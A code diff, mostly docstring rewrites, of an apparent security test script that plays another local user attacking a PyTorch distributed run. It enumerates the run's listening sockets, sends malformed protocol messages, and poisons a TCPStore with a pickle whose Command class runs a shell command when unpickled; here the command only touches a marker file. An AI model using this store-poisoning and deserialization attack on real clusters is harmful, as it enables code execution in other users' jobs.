@@ -1,7 +1,9 @@
-"""attacked.py PIDS FOLDER: what another user of the machine can do to the processes of a run, done as user 65534.
+"""Try what another user of the machine could do to the processes of a run. The attacks run as user 65534.
 
-Tells, as JSON: the listeners that were found, and what could be read. A pickle that is loaded anywhere touches
-FOLDER/ran, into which everybody can write.
+    attacked.py PIDS FOLDER
+
+Print, as JSON, the listeners that were found and the data that could be read. Every pickle that is sent touches
+FOLDER/ran (a file that anyone may write) if a process loads it.
 """
 
 from __future__ import annotations
@@ -18,7 +20,7 @@ from contextlib import suppress
 from datetime import timedelta
 from pathlib import Path
 
-os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"  # of torch's own tries
+os.environ["TORCH_CPP_LOG_LEVEL"] = "FATAL"  # Silence torch's messages about failed connection attempts.
 
 import torch.distributed as dist
 
@@ -26,7 +28,7 @@ STRANGER = 65534
 
 
 class Command:
-    """Runs a command where it is unpickled."""
+    """An object that runs a shell command when it is unpickled."""
 
     def __init__(self, folder: Path) -> None:
         self.folder = folder
@@ -36,7 +38,7 @@ class Command:
 
 
 def inodes(pids: list[int]) -> set[str]:
-    """Sockets of the processes, by the number that the kernel gives each."""
+    """Return the kernel's socket inode numbers that the processes have open."""
     found = set()
     for pid in pids:
         for link in Path(f"/proc/{pid}/fd").glob("*"):
@@ -48,7 +50,7 @@ def inodes(pids: list[int]) -> set[str]:
 
 
 def tcp_listeners(ours: set[str]) -> Iterator[tuple[str, int]]:
-    """(host, port) of each."""
+    """Yield (host, port) of each listening TCP socket that belongs to the processes."""
     for family, name in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
         for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
             words = line.split()
@@ -67,7 +69,7 @@ def unix_listeners(ours: set[str]) -> Iterator[str]:
 
 
 def garbage(family: socket.AddressFamily, address: object, payload: bytes) -> bytes:
-    """Send what is no message of the run's, as it and as gloo's peers begin; return what comes back."""
+    """Send malformed messages in the framing of the run's protocol and of gloo; return the bytes that come back."""
     come = b""
     for head in (b"", bytes(8), (1).to_bytes(8, "little"), (8).to_bytes(4, "big") + (1).to_bytes(4, "big")):
         with suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as connection:
@@ -79,8 +81,10 @@ def garbage(family: socket.AddressFamily, address: object, payload: bytes) -> by
 
 
 def poison(host: str, port: int, payload: bytes) -> None:
-    """Set every key of torch's store, where one listens, to what elastic's rendezvous unpickles; end the process."""
-    signal.alarm(20)  # others never answer
+    """Overwrite every key of a torch TCPStore with a pickle, as elastic's rendezvous unpickles them; end
+    the process.
+    """
+    signal.alarm(20)  # Listeners that are not a TCPStore never answer.
     with suppress(RuntimeError, ValueError):
         store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=5))
         for key in store.list_keys():
